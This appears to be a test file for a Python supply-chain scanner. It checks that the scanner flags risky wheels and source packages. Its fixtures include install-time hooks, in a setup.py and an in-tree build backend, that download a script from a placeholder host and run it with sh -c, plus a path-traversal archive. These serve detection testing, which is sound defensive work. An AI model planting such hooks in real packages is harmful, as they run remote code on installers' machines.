"""`chaingate inspect`: archives and directories in, one verdict out; nothing executed.
Every sample is inert (URLs under example.invalid, never run)."""

from __future__ import annotations

import io
import json
import subprocess
import sys
import zipfile
from pathlib import Path

from chaingate.analysis.inspect import inspect_path, verdict
from chaingate.analysis.interface import CodeFinding
from chaingate.core.findings import Severity

MALICIOUS_SETUP = """
from setuptools import setup
from setuptools.command.install import install
import urllib.request, subprocess

class PostInstall(install):
    def run(self):
        payload = urllib.request.urlopen("https://payload.example.invalid/x.sh").read()
        subprocess.run(["sh", "-c", payload])
        install.run(self)

setup(name="demo", version="1.0", cmdclass={"install": PostInstall})
"""

HEALTHY_INIT = '''"""A healthy library: network use lives in functions."""
import logging
import requests

log = logging.getLogger(__name__)


def fetch(url):
    return requests.get(url, timeout=10).json()
'''


def wheel(tmp_path: Path, name: str, files: dict[str, bytes]) -> Path:
    path = tmp_path / name
    with zipfile.ZipFile(path, "w") as zf:
        for member, data in files.items():
            zf.writestr(member, data)
    return path


def test_a_single_medium_finding_stays_low() -> None:
    one = CodeFinding("shady-url", Severity.MEDIUM, "pkg/a.py", 3, "m")
    assert verdict((one,)) == Severity.LOW
    two = (one, CodeFinding("import-time-exec", Severity.MEDIUM, "pkg/b.py", 1, "m"))
    assert verdict(two) == Severity.MEDIUM
    assert verdict(()) is None


def test_malicious_setup_in_a_directory_is_high_or_worse(tmp_path: Path) -> None:
    (tmp_path / "demo").mkdir()
    (tmp_path / "demo" / "setup.py").write_text(MALICIOUS_SETUP)
    result = inspect_path(tmp_path / "demo")
    assert result.verdict is not None and result.verdict >= Severity.HIGH
    hook = next(f for f in result.findings if f.id in ("install-hook", "download-exec"))
    assert hook.path == "setup.py" and hook.line is not None


def test_native_binary_in_a_pure_python_wheel(tmp_path: Path) -> None:
    """torchtriton's shape: the package's code names the binary it runs."""
    elf = b"\x7fELF\x02\x01\x01" + b"\0" * 64
    runs = (
        b"import os, subprocess\nHERE = os.path.dirname(__file__)\n\ndef go():\n"
        b"    subprocess.run([os.path.join(HERE, 'helper')])\n"
    )
    whl = wheel(tmp_path, "demo-1.0-py3-none-any.whl",
                {"demo/__init__.py": runs, "demo/helper": elf})  # fmt: skip
    (binary,) = [f for f in inspect_path(whl).findings if f.id == "bundled-binary"]
    assert binary.severity == Severity.HIGH and binary.path == "demo/helper"
    assert "names it" in binary.message


def test_launchers_nobody_names_in_a_pure_wheel_stay_low(tmp_path: Path) -> None:
    """setuptools, pip and distlib ship Windows launchers (cli-64.exe, t64.exe, ...) that
    their code picks by a computed name."""
    pe = b"MZ\x90\x00" + b"\0" * 60
    code = b"def launcher(kind, bits):\n    return f'{kind}-{bits}.exe'\nNAME = 'int64'\n"
    files = {"lib/__init__.py": code, "lib/cli-64.exe": pe, "lib/t64.exe": pe, "lib/w64.exe": pe}
    result = inspect_path(wheel(tmp_path, "lib-1.0-py3-none-any.whl", files))
    assert {f.severity for f in result.findings} == {Severity.MEDIUM}
    assert result.verdict == Severity.LOW  # one kind of medium finding


def test_extension_modules_in_a_platform_wheel_are_fine(tmp_path: Path) -> None:
    whl = wheel(
        tmp_path,
        "demo-1.0-cp311-cp311-manylinux_2_17_x86_64.whl",
        {"demo/_speedups.cpython-311-x86_64-linux-gnu.so": b"\x7fELF" + b"\0" * 64,
         "demo.libs/libfoo-1a2b.so.1.2": b"\x7fELF" + b"\0" * 64},
    )  # fmt: skip
    assert inspect_path(whl).findings == ()


def test_healthy_code_is_quiet(tmp_path: Path) -> None:
    whl = wheel(tmp_path, "lib-1.0-py3-none-any.whl", {"lib/__init__.py": HEALTHY_INIT.encode()})
    result = inspect_path(whl)
    assert result.verdict is None or result.verdict <= Severity.LOW


def test_a_hostile_archive_is_a_finding_not_a_crash(tmp_path: Path) -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("../../escaped.py", b"print('x')")
    (tmp_path / "evil-1.0-py3-none-any.whl").write_bytes(buf.getvalue())
    result = inspect_path(tmp_path / "evil-1.0-py3-none-any.whl")
    (hostile,) = [f for f in result.findings if f.id == "hostile-archive"]
    assert hostile.severity == Severity.CRITICAL
    assert not (tmp_path.parent / "escaped.py").exists()


def test_the_command_gives_the_json_schema_and_exit_code(tmp_path: Path) -> None:
    (tmp_path / "demo").mkdir()
    (tmp_path / "demo" / "setup.py").write_text(MALICIOUS_SETUP)
    proc = subprocess.run(
        [sys.executable, "-m", "chaingate", "inspect", str(tmp_path / "demo"), "-f", "json"],
        capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert proc.returncode == 1, proc.stderr
    doc = json.loads(proc.stdout)
    assert doc["schema"] == "chaingate/inspect/v1"
    assert doc["verdict"] in ("high", "critical")
    assert {"id", "severity", "path", "line", "message", "excerpt"} <= set(doc["findings"][0])


def test_where_a_finding_sits_weighs_on_it() -> None:
    from chaingate.analysis.inspect import weigh

    demo = frozenset({"demo", "demo/tests", "docs_src", "tests", "vendored"})

    def w(path: str, *, sdist: bool = True, packages: frozenset[str] = demo) -> Severity:
        f = CodeFinding("import-time-exec", Severity.HIGH, path, 1, "m")
        return weigh(f, sdist=sdist, source_tree=sdist, packages=packages).severity

    assert w("demo-1.0/demo/__init__.py") == Severity.HIGH
    assert w("demo-1.0/src/demo/__init__.py", packages=frozenset({"src/demo"})) == Severity.HIGH
    assert w("demo-1.0/setup.py") == Severity.HIGH
    assert w("demo-1.0/tests/test_a.py") == Severity.MEDIUM
    assert w("demo-1.0/demo/tests/helpers.py") == Severity.MEDIUM
    assert w("demo-1.0/vendored/manual tests/4 bins/build.py") == Severity.MEDIUM
    assert w("demo-1.0/docs_src/app.py") == Severity.MEDIUM
    assert w("demo-1.0/demo/conftest.py") == Severity.MEDIUM
    # A loose script of an sdist, in no package at any depth: pip never runs it (duckdb's
    # external/duckdb/third_party/httplib/transform-httplib.py)
    assert w("demo-1.0/external/third_party/transform-httplib.py") == Severity.LOW
    assert w("demo-1.0/samples/traces/sample_requests.py") == Severity.LOW
    assert w("demo-1.0/scripts/release.py") == Severity.LOW
    assert w("demo-1.0/.circleci/fetch.py") == Severity.LOW
    assert w("demo-1.0/benchmarks/run.py") == Severity.LOW
    # A package that happens to be called tools is installed code.
    assert w("tools-1.0/tools/__init__.py", packages=frozenset({"tools"})) == Severity.HIGH
    # In a wheel everything is installed: scripts/ is no excuse there.
    assert w("demo/scripts/x.py", sdist=False) == Severity.HIGH
    assert w("latest/contest.py", sdist=False) == Severity.HIGH


def test_a_huge_library_costs_its_header_not_its_size(tmp_path: Path) -> None:
    """Real ML wheels carry native libraries of hundreds of MB: they are recognised from
    their first bytes, and a source file over the limit is reported, not parsed."""
    from chaingate.analysis.interface import Limits

    big = b"\x7fELF" + b"\0" * (3 * 1024 * 1024)
    files = {"ml/_core.so": big, "ml/tool": big, "ml/gen.py": b"x = 1\n" * 300_000}
    whl = wheel(tmp_path, "ml-1.0-cp311-cp311-manylinux_2_17_x86_64.whl", files)
    result = inspect_path(whl, Limits(max_source_bytes=1024 * 1024))
    by_path = {f.path: f for f in result.findings}
    assert "ml/_core.so" not in by_path
    assert by_path["ml/tool"].id == "bundled-binary"
    assert by_path["ml/gen.py"].id == "unparsable-source" and "MB" in by_path["ml/gen.py"].message
    assert result.bytes_read == 2 * len(big) + 6 * 300_000


BACKEND_PYPROJECT = b"""
[build-system]
requires = []
build-backend = "backend:api"
backend-path = ["_build"]
"""
BACKEND = b"""
import subprocess, urllib.request

def _fetch():
    return urllib.request.urlopen("https://stage2.example.invalid/p").read()

def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    subprocess.run(["sh", "-c", _fetch()])
    return "demo-1.0-py3-none-any.whl"
"""


def test_an_in_tree_build_backend_is_install_time_code(tmp_path: Path) -> None:
    """PEP 517 hooks of a backend shipped in the sdist run on `pip install`, like setup.py."""
    (tmp_path / "demo" / "_build").mkdir(parents=True)
    (tmp_path / "demo" / "pyproject.toml").write_bytes(BACKEND_PYPROJECT)
    (tmp_path / "demo" / "_build" / "backend.py").write_bytes(BACKEND)
    result = inspect_path(tmp_path / "demo")
    hooks = [f for f in result.findings if f.id == "install-hook"]
    assert hooks and all(f.path == "_build/backend.py" for f in hooks)
    assert max(f.severity for f in hooks) >= Severity.HIGH
    assert "in-tree build backend" in hooks[0].message
    # The same module without the pyproject naming it is ordinary library code.
    (tmp_path / "demo" / "pyproject.toml").unlink()
    plain = inspect_path(tmp_path / "demo")
    assert not [f for f in plain.findings if f.id == "install-hook"]


def test_backend_modules_from_pyproject() -> None:
    from chaingate.analysis.python.project import backend_modules

    assert backend_modules(BACKEND_PYPROJECT) == {"_build/backend.py", "_build/backend/__init__.py"}
    assert backend_modules(b'[build-system]\nbuild-backend = "setuptools.build_meta"\n') == set()
    dot = b'[build-system]\nbuild-backend = "pkg.b:x"\nbackend-path = ["."]\n'
    assert backend_modules(dot) == {"pkg/b.py", "pkg/b/__init__.py"}
    assert backend_modules(b"not toml [") == set()
